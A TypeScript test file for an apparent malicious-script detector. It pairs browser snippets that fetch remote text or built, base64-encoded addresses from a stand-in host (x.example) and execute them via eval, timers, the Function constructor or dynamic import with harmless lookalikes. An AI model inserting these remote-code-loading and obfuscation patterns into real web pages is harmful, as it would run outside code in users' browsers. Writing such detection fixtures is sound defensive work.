import { inScript as script, type Case } from './pack-of.ts'

/** Fetched text and built addresses that run in the browser. */
export const flowsInScripts: Case[] = [
  script(
    'javascript-code-from-data',
    'fetched text in a timer',
    `const text = await (await fetch("https://x.example/a")).text()
setTimeout(text, 10)`,
  ),
  script(
    'javascript-code-from-data',
    'fetched text in a timer, in a chain',
    `fetch("https://x.example/a").then((r) => r.text()).then((t) => setTimeout(t))`,
  ),
  script(
    'javascript-code-from-data',
    'text of an asynchronous function in a timer',
    `async function get() { const r = await fetch("/x"); return r.text() }
const code = await get()
setInterval(code, 100)`,
  ),
  script(
    'javascript-code-from-data',
    'fetched text in a timer, over a parameter',
    `function later(code) { setTimeout(code, 1) }
const r = new XMLHttpRequest()
r.onload = () => later(r.responseText)`,
  ),
  script('javascript-obfuscated', 'Function by brackets', `[]["filter"]["constructor"]("alert(1)")()`),
  script(
    'javascript-obfuscated',
    'Function by brackets, under another name',
    `const F = []["fil" + "ter"]["const" + "ructor"]
F("fetch('//x.example')")()`,
  ),
  script('javascript-obfuscated', 'Function by a text', `""["sub"]["constructor"]("alert(1)")()`),
  script(
    'javascript-code-from-data',
    'Function by a function',
    `const t = await (await fetch("/a")).text();
(() => {}).constructor(t)()`,
  ),
  script(
    'javascript-code-from-data',
    'a constructor of asynchronous functions',
    `const A = Object.getPrototypeOf(async function () {}).constructor
const t = await (await fetch("/a")).text()
new A(t)()`,
  ),
  script(
    'javascript-code-from-data',
    'a script of a built address',
    `const s = document.createElement("scr" + "ipt")
s.src = "ht" + "tps:/" + "/x.ex" + "ample/a.js"
document.head.append(s)`,
  ),
  script(
    'javascript-code-from-data',
    'a script of a decoded address',
    `const s = document.createElement("script")
s.setAttribute("src", atob("aHR0cHM6Ly94LmV4YW1wbGUvYS5qcw=="))`,
  ),
  script(
    'javascript-code-from-data',
    'an import of a built address',
    `import(["https:", "", "x.e" + "xample", "a.js"].join("/"))`,
  ),
  script(
    'javascript-code-from-data',
    'an import of a fetched address',
    `const u = await (await fetch("/cfg")).text()
await import(u)`,
  ),
  script(
    'javascript-code-from-data',
    'an import of fetched text',
    `const code = await (await fetch("https://x.example")).text()
import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })))`,
  ),
  script(
    'javascript-code-from-data',
    'a message that is run',
    `const ws = new WebSocket("wss://x.example")
ws.onmessage = (e) => eval(e.data)`,
  ),
  script(
    'javascript-code-from-data',
    'a message that is run by a listener',
    `const ws = new WebSocket("wss://x.example")
ws.addEventListener("message", (e) => new Function(e.data)())`,
  ),
]

/** Flows of honest scripts that resemble malicious flows. */
export const harmlessScripts: Case[] = [
  script(
    '',
    'functions in timers',
    `function poll() { fetch("/x").then((r) => r.json()) }
setTimeout(poll, 100)
setInterval(() => poll(), 100)
new Promise((resolve) => setTimeout(resolve, 10))`,
  ),
  script(
    '',
    'methods in timers',
    `class A { go() { setTimeout(this.tick.bind(this), 10); setTimeout(this.tick, 10) } async tick() { await fetch("/x") } }
const debounce = (fn, ms) => { let t; return () => { clearTimeout(t); t = setTimeout(fn, ms) } }
debounce(async () => { const r = await fetch("/x"); return r.text() }, 10)`,
  ),
  script(
    '',
    'constructors',
    `class B { copy() { return new this.constructor(this.x) } }
const o = Object.create(B.prototype); const c = new o.constructor(1)
const g = (function () {}).constructor("return this")()
const h = Function("return this")()`,
  ),
  script(
    '',
    'scripts of its own',
    `const s = document.createElement("script")
s.src = new URL("./lib/a.js", import.meta.url).href
const t = document.createElement("script")
t.src = "/extensions/inert/" + "a.js"
t.setAttribute("src", "extensions/inert/b.js")`,
  ),
  script(
    '',
    'imports of its own, and of a host',
    `for (const name of ["a", "b"]) import(\`./nodes/\${name}.js\`)
const base = "https://cdn.example/lib/"
import(base + "three.js")
import("https://cdn.example/lib/x.js")`,
  ),
  script(
    '',
    'data that is fetched',
    `const list = await (await fetch("/inert/list")).json()
setTimeout(() => show(list), 1)
const w = new Worker("/extensions/inert/worker.js")`,
  ),
  script(
    '',
    'messages that are shown',
    `const ws = new WebSocket("ws://" + location.host + "/ws")
ws.onmessage = (e) => { const d = JSON.parse(e.data); setTimeout(() => show(d), 1) }`,
  ),
  script(
    '',
    'scripts of its own, by a list that is fetched',
    `const load = (url) => { const s = document.createElement("script"); s.src = url + "?v=1"; document.head.append(s) }
const list = await (await fetch("/inert/list")).json()
for (const name of list) load(name)
for (const file of list) import(file)`,
  ),
]
